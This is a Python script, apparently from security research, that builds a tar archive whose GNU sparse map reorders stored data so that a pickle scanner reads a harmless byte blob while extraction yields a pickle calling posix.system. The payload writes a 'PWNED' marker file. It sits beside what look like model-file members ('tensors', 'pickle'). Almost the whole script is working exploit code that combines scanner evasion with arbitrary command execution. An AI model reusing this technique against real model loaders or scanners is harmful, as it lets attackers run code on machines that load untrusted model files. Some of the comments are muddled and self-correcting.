# pax GNU sparse 0.1 (GNU.sparse.map) "storages": the map reorders the stored runs.
# Stored: [G | P]  (G = PROTO 2 + BINBYTES8 swallowing P for the opcode walker)
# map "len(G),len(P),0,len(G)": extract writes P at offset 0 first? no: runs are copied in
# stored order: run 1 (len(P) bytes?) -- see below.
import sys, struct
import os, sys; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'round3')); from tarlib import *
out = sys.argv[1]; h = len(sys.argv) > 2
mod, name, arg = (b'builtins', b'print', b'PAYLOAD REACHED') if h else (b'posix', b'system', b'echo PWNED > /tmp/pwned_marker')
P_ = b'c' + mod + b'\n' + name + b'\n(X' + struct.pack('<I', len(arg)) + arg + b'tR.'
# the stored data: G then P. G swallows P as bytes.
G = b'\x80\x02\x8e' + struct.pack('<Q', len(P_))
stored = G + P_
# sparse map (offset,size) in stored order: G's bytes go to offset len(P_), P's bytes to offset 0
smap = b'%d,%d,%d,%d' % (len(P_), len(G), 0, len(P_))
real = len(P_) + len(G)
f = pax([(b'GNU.sparse.major', b'0'), (b'GNU.sparse.minor', b'1'), (b'GNU.sparse.name', b'storages'),
         (b'GNU.sparse.realsize', b'%d' % real), (b'GNU.sparse.map', smap)])
f += hdr(b'GNUSparseFile.0/storages', len(stored)) + data(stored)
f += member(b'tensors', TENSORS0) + member(b'pickle', P({})) + end()
open(out, 'wb').write(f)
